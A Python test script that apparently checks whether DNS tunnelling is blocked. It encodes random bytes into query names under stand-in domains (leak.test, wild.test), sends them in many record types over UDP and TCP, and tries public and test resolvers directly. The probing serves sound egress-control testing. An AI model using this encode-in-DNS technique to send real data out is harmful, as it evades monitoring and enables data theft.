"""N9: data in the names that are asked for, in questions of every type, by packet and by
connection, under a name that no rule knows and under one that a wildcard allows."""
import base64, os, socket, struct

TYPES = {"A": 1, "NS": 2, "CNAME": 5, "NULL": 10, "MX": 15, "TXT": 16, "AAAA": 28, "SRV": 33, "HTTPS": 65, "ANY": 255}


def question(name, kind):
    wire = b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0"
    return struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + wire + struct.pack(">HH", kind, 1)


def by_packet(packet):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.settimeout(2)
        udp.sendto(packet, ("127.0.0.1", 53))
        return udp.recv(4096)


def by_connection(packet):
    with socket.create_connection(("127.0.0.1", 53), timeout=2) as tcp:
        tcp.sendall(struct.pack(">H", len(packet)) + packet)
        return tcp.recv(4096)


tried = 0
for parent in ("leak.test", "wild.test"):
    for word, kind in TYPES.items():
        for way in (by_packet, by_connection):
            label = base64.b32encode(os.urandom(30)).decode().lower().rstrip("=")
            tried += 1
            try:
                answer = way(question(f"{label}.{parent}", kind))
            except OSError as fault:
                print("CLOSED", parent, word, way.__name__, fault)
                continue
            print("REACHED" if b"sink" in answer else "CLOSED", parent, word, way.__name__)
for server in ("198.51.100.53", "8.8.8.8"):
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
            udp.sendto(question("x.leak.test", 1), (server, 53))
        print("REACHED server", server)
    except OSError as fault:
        print("CLOSED server", server, fault)
print("TRIED", tried)
